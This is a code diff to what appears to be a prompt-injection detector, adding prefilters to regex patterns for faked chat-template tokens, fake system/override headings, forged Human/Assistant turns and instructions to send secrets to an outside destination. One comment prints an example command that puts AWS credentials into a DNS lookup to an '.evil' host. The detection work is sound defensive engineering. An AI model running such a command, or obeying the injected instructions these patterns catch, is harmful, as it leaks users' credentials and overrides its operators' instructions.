@@ -85,35 +85,35 @@ const CHAT_TEMPLATE: PhraseFamily = {
      * (an underscore or ▁ joins its parts, or it is a known role or control word) so F#'s `<|`
      * and `|>` operators in one sentence are not mistaken for one.
      */
-    always(/<\s*\|\s*(?:[a-z0-9]+(?:[_▁-][a-z0-9]+)+|system|user|assistant|endoftext|eot|eos|bos|pad|sep|tool|ipython|im_start|im_end|begin|end|start|message|channel|return|call|constrain)\s*\|\s*>/u),
-    always(/\[\s*\/?\s*inst\s*\]/u), // [INST] … [/INST]
-    always(/<\s*<\s*\/?\s*sys\s*>\s*>/u), // <<SYS>> … <</SYS>>
-    always(/<\s*\/?\s*(?:im_start|im_end|start_of_turn|end_of_turn|endoftext|eot_id|bos|eos)\s*>/u),
-    phrase(String.raw`\[\s*\/?\s*(?:system|sys|assistant|admin|developer)\s+(?:message|note|override|prompt|instructions?|notice|update|alert)\s*\]`),
-    phrase(String.raw`(?:^|[.!?;:]\s*)\[\s*\/?\s*(?:system|sys|assistant|admin|developer)\s*\]`),
-    phrase(String.raw`\[\s*\/?\s*(?:system|sys|assistant|admin|developer)\s*\]\s*(?::|${INSTRUCTION_START}|${POLICY_STATEMENT})`),
-    always(/(?:-{2,}|={2,}|\*{2,}|#{2,}|~{2,}|>{2,})\s*(?:system|admin|developer|assistant|operator)\s+(?:message|prompt|notice|instructions?|override|update|alert|note)\s*(?:-{2,}|={2,}|\*{2,}|#{2,}|~{2,}|<{2,}|:)/u),
-    phrase(ROLE_ELEMENT_WITH_ORDER),
+    needing(/</, always(/<\s*\|\s*(?:[a-z0-9]+(?:[_▁-][a-z0-9]+)+|system|user|assistant|endoftext|eot|eos|bos|pad|sep|tool|ipython|im_start|im_end|begin|end|start|message|channel|return|call|constrain)\s*\|\s*>/u)),
+    needing(/\[/, always(/\[\s*\/?\s*inst\s*\]/u)), // [INST] … [/INST]
+    needing(/</, always(/<\s*<\s*\/?\s*sys\s*>\s*>/u)), // <<SYS>> … <</SYS>>
+    needing(/</, always(/<\s*\/?\s*(?:im_start|im_end|start_of_turn|end_of_turn|endoftext|eot_id|bos|eos)\s*>/u)),
+    needing(/\[/, phrase(String.raw`\[\s*\/?\s*(?:system|sys|assistant|admin|developer)\s+(?:message|note|override|prompt|instructions?|notice|update|alert)\s*\]`)),
+    needing(/\[/, phrase(String.raw`(?:^|[.!?;:]\s*)\[\s*\/?\s*(?:system|sys|assistant|admin|developer)\s*\]`)),
+    needing(/\[/, phrase(String.raw`\[\s*\/?\s*(?:system|sys|assistant|admin|developer)\s*\]\s*(?::|${INSTRUCTION_START}|${POLICY_STATEMENT})`)),
+    needing(/--|==|\*\*|##|~~|>>/, always(/(?:-{2,}|={2,}|\*{2,}|#{2,}|~{2,}|>{2,})\s*(?:system|admin|developer|assistant|operator)\s+(?:message|prompt|notice|instructions?|override|update|alert|note)\s*(?:-{2,}|={2,}|\*{2,}|#{2,}|~{2,}|<{2,}|:)/u)),
+    needing(/</, phrase(ROLE_ELEMENT_WITH_ORDER)),
     /**
      * `</s>` ends a sequence in Llama-style templates and `<s>` starts one. HTML's strikethrough
      * uses the same tags as a pair around words, so `</s>` counts when no `<s>` opened it, and
      * `<s>` when it opens a turn (`<s>[INST]`, `<s> system:`) or follows a `</s>`.
      */
-    always(/^(?:(?!<\s*s\s*>).)*<\s*\/\s*s\s*>/u),
-    always(/<\s*\/\s*s\s*>\s*<\s*s\s*>/u),
-    always(/<\s*s\s*>\s*(?:\[\s*inst|<\s*<\s*sys|<\s*\||(?:system|user|assistant|human)\s*:)/u),
-    always(/#{2,}\s*(?:system|instructions?|response|assistant|human|user|input|prompt)\s*:/u), // ### System:
-    always(/#{1,6}\s*(?:new|updated|revised|important|urgent|real|actual|true|override)\s+(?:system\s+)?(?:instructions?|rules|directives?|prompt|orders)/u),
-    always(/\*\*\s*(?:important|urgent|attention|critical|priority|new|updated|override|system|admin)\b[^*]{0,40}?(?:instructions?|directives?|rules|override|prompt|orders)\s*:?\s*\*\*/u),
+    needing(/</, always(/^(?:(?!<\s*s\s*>).)*<\s*\/\s*s\s*>/u)),
+    needing(/</, always(/<\s*\/\s*s\s*>\s*<\s*s\s*>/u)),
+    needing(/</, always(/<\s*s\s*>\s*(?:\[\s*inst|<\s*<\s*sys|<\s*\||(?:system|user|assistant|human)\s*:)/u)),
+    needing(/#/, always(/#{2,}\s*(?:system|instructions?|response|assistant|human|user|input|prompt)\s*:/u)), // ### System:
+    needing(/#/, always(/#{1,6}\s*(?:new|updated|revised|important|urgent|real|actual|true|override)\s+(?:system\s+)?(?:instructions?|rules|directives?|prompt|orders)/u)),
+    needing(/\*\*/, always(/\*\*\s*(?:important|urgent|attention|critical|priority|new|updated|override|system|admin)\b[^*]{0,40}?(?:instructions?|directives?|rules|override|prompt|orders)\s*:?\s*\*\*/u)),
     /**
      * A turn of a chat transcript. "Human:" and "Assistant:" (and the like) at the start of the
      * text or of a sentence are a faked turn whatever follows. "System:" and "User:" also open
      * environment notes and YAML keys ("System: Debian 12, 2 cores", "user: ci"), so they count
      * only when an instruction to the model or a policy statement follows.
      */
-    always(/(?:^|[.!?;)\]>"'”»]\s*|\s{2,})(?:human|assistant|ai|bot|gpt|chatgpt|claude|model)\s*:\s*\S/u),
+    phrase(after(String.raw`(?:^|[.!?;)\]>"'”»]\s*|\s{2,})`, anyOf('human', 'assistant', 'ai', 'bot', 'gpt', 'chatgpt', 'claude', 'model')), String.raw`\s*:\s*\S`),
     // Two turns in one text: a "User:" line answered by an "Assistant:" one.
-    always(/(?:^|[^a-z0-9])(?:user|human|system)\s*:.{0,400}?[^a-z0-9](?:assistant|ai|bot|model)\s*:\s*\S/u),
+    needing(/:[^]*:/, phrase(anyOf('user', 'human', 'system'), String.raw`\s*:.{0,400}?[^a-z0-9](?:assistant|ai|bot|model)\s*:\s*\S`)),
     phrase(anyOf('system', 'user', 'developer', 'admin', 'operator'), String.raw`\s*:\s*(?:${INSTRUCTION_START}|${POLICY_STATEMENT})`),
   ],
   script: [],
@@ -617,7 +617,7 @@ const EXFILTRATION: PhraseFamily = {
   why: 'the text tells the model to send secrets, keys, tokens or secret files somewhere',
   latin: [
     needing(SECRET_HINT, phrase(NOT_NEGATED, SEND, gap(8), String.raw`[^\p{L}\p{N}]*`, SECRET, `(?:${gap(8)}|[^|;]{0,80}?)`, `(?:${SEP}|[^\\p{L}\\p{N}]*)`, TOWARDS, `(?:${gap(4)}|[^\\p{L}\\p{N}]*)`, String.raw`[^\p{L}\p{N}]*`, DESTINATION)),
-    needing(SECRET_HINT, phrase(NOT_NEGATED, SECRET, gap(8), SEP, SEND, gap(8), `(?:${SEP}|[^\\p{L}\\p{N}]*)`, TOWARDS, `(?:${gap(4)}|[^\\p{L}\\p{N}]*)`, String.raw`[^\p{L}\p{N}]*`, DESTINATION)),
+    needing(SECRET_HINT, phrase(NOT_NEGATED, after(`${SECRET}(?:${SEP}${WORD}){0,8}${SEP}`, SEND), gap(8), `(?:${SEP}|[^\\p{L}\\p{N}]*)`, TOWARDS, `(?:${gap(4)}|[^\\p{L}\\p{N}]*)`, String.raw`[^\p{L}\p{N}]*`, DESTINATION)),
     needing(SECRET_HINT, phrase(NOT_NEGATED, SEND, gap(6), SEP, SECRET, gap(6), SEP, TOWARDS, SEP, anyOf('it', 'them', 'that url', 'that address', 'that endpoint', 'this url', 'this endpoint', 'this address'))),
     needing(SECRET_HINT, phrase(NOT_NEGATED, anyOf('reply', 'respond', 'answer', 'write back'), gap(6), SEP, anyOf('with'), gap(4), SEP, SECRET)),
     /** A secret pulled into a request or a DNS name by command substitution: `nslookup $(cat ~/.aws/credentials …).evil`. */
